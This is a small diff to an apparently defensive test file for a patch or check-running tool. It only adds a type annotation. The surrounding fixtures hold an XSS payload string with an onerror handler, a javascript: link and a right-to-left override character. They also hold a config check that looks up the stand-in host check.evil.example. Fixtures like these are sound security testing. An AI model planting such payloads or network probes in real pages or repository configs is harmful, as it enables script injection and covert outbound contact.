@@ -12,7 +12,7 @@ from tests.fakes.stack import Service, WritesFiles, remote, running
 pytestmark = pytest.mark.slow
 LOOK = "python3 -c \"import socket\ntry: socket.getaddrinfo('{}', 443)\nexcept OSError: pass\""
 CHECKS = "checks:\n  - name: tests\n    command: |\n      " + LOOK.format("check.evil.example").replace("\n", "\n      ") + "\n"
-FILES = {"a.py": "A = 1\n", "tests/test_a.py": "import unittest\n", ".patchwright.yaml": CHECKS}
+FILES: dict[str, str | bytes] = {"a.py": "A = 1\n", "tests/test_a.py": "import unittest\n", ".patchwright.yaml": CHECKS}
 HOSTILE = "<img/src=x/onerror=alert(1)>`**[a](javascript:b)@everyone\u202e"
 ASK = """python3 - <<'END'
 import os, socket
